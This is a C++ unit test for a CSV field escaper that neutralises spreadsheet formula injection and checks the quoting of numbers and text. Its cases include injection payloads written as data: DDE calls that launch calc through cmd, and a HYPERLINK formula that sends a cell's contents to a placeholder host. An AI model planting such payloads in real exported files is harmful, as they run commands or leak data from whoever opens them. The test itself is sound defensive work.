// A field of the CSV files: shown by spreadsheets as the text it is, never run as a formula.
#include "csv_field.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace {

TEST(CsvField, ATextAFormulaWouldStartWithGetsALeadingApostropheAndANumberStaysAsItIs) {
    struct Case {
        std::string text;
        std::string field;
    };
    const std::vector<Case> cases = {
        // What a spreadsheet runs: a formula, a DDE call, a function, a tab or CR before one.
        {"=HYPERLINK(\"http://x/?\"&A1, \"ver\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1, \"\"ver\"\")\""},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
        {"\t=1+1", "'\t=1+1"},
        {"\r=1+1", "\"'\r=1+1\""},
        {"=1;2", "\"'=1;2\""},
        {"-", "'-"},
        {"+", "'+"},
        {"-1.5.2", "'-1.5.2"},
        {"-1,5e3", "'-1,5e3"},
        // Numbers, signed or not, with one decimal separator: as they are.
        {"-5", "-5"},
        {"+42", "+42"},
        {"-1,50", "-1,50"},
        {"-0.25", "-0.25"},
        {"+3.", "+3."},
        // Anything else: quoted only when it holds a separator, a quote or a line break.
        {"", ""},
        {"Ação", "Ação"},
        {"a=b", "a=b"},
        {"1+1", "1+1"},
        {"a;b", "\"a;b\""},
        {"diz \"oi\"", "\"diz \"\"oi\"\"\""},
        {"linha\r\nnova", "\"linha\r\nnova\""},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.text);
        EXPECT_EQ(engine::csvField(c.text), c.field);
    }
}

}  // namespace
